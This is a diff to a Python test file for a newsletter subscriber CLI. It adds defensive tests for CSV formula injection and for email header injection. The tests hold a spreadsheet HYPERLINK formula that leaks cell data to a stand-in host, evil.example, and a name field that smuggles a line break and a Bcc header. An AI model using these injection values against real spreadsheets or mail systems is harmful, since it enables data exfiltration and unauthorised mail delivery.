@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import email
 import email.policy
+import json
 import re
 from datetime import UTC, datetime, timedelta
 
@@ -459,3 +460,101 @@ def test_the_derived_webhook_secret_reveals_nothing_it_is_made_from(tmp_path) ->
         hashlib.sha256(web_secret.encode()).hexdigest(),
         hashlib.sha256(token.encode()).hexdigest(),
     }
+
+
+# --- 8. CSV formula injection --------------------------------------------------------------
+
+
+def test_an_export_opens_as_text_in_a_spreadsheet_and_imports_back_unchanged(tmp_path) -> None:
+    import csv
+    import io
+
+    from click.testing import CliRunner
+
+    from vestnesis.cli import cli
+
+    server = MailServer().start()
+    try:
+        path = sample_config(
+            tmp_path,
+            email={"from": "LBB <i@bibliotekari.lv>", "smtp_port": server.port, "security": "none"},
+        )
+        table = tmp_path / "in.csv"
+        hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+        rows = [
+            ("a@example.lv", hostile),
+            ("b@example.lv", "+3712000000"),
+            ("c@example.lv", "-Anna"),
+            ("d@example.lv", "@Jānis"),
+            ("e@example.lv", "Ilze"),
+        ]
+        table.write_text(
+            "email,name,language\n"
+            + "".join(f'{e},"{n.replace(chr(34), 2 * chr(34))}",lv\n' for e, n in rows),
+            "utf-8",
+        )
+
+        def run(*args: str):
+            return CliRunner(env=SECRET).invoke(
+                cli, ["--config", str(path), *args], catch_exceptions=False
+            )
+
+        assert (
+            "Imported 5 new members"
+            in run("subscribers", "import", str(table), "--confirmed").stdout
+        )
+        exported = run("subscribers", "export").stdout
+        cells = {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(exported))}
+        assert all(not name.startswith(("=", "+", "-", "@")) for name in cells.values())
+        assert cells["a@example.lv"] == "'" + hostile and cells["e@example.lv"] == "Ilze"
+        # Importing the export into a fresh list gives the same names back.
+        again = tmp_path / "again"
+        again.mkdir()
+        out = again / "out.csv"
+        out.write_text(exported, "utf-8")
+        path2 = sample_config(
+            again,
+            email={"from": "LBB <i@bibliotekari.lv>", "smtp_port": server.port, "security": "none"},
+        )
+        path = path2
+        run("subscribers", "import", str(out), "--confirmed")
+        listed = [
+            json.loads(line) for line in run("subscribers", "list", "--json").stdout.splitlines()
+        ]
+        assert {m["email"]: m["name"] for m in listed} == dict(rows)
+    finally:
+        server.stop()
+
+
+def test_a_csv_name_with_a_line_break_never_reaches_a_header(tmp_path, mail) -> None:
+    """The case `members-name-line-break.csv`: a quoted name with a line break."""
+    from click.testing import CliRunner
+
+    from vestnesis.cli import cli
+
+    config_path = sample_config(
+        tmp_path,
+        email={
+            "from": "LBB <i@bibliotekari.lv>",
+            "smtp_host": "127.0.0.1",
+            "smtp_port": mail.port,
+            "security": "none",
+        },
+        web={"public_url": BASE},
+    )
+    table = tmp_path / "members.csv"
+    table.write_text(
+        'email,name,language\nm@example.lv,"Mārtiņš\r\nBcc: all@elsewhere.example",lv\n', "utf-8"
+    )
+    runner = CliRunner(env=SECRET)
+    imported = runner.invoke(
+        cli,
+        ["--config", str(config_path), "subscribers", "import", str(table)],
+        catch_exceptions=False,
+    )
+    assert "Imported 1 new members" in imported.stdout
+    [received] = mail.received  # the confirmation mail
+    assert received.recipients == ("m@example.lv",)
+    head = received.data.split(b"\r\n\r\n", 1)[0].decode()
+    assert re.search(r"^Bcc:", head, re.M) is None
+    assert received.message["To"].addresses[0].display_name == "Mārtiņš Bcc: all@elsewhere.example"
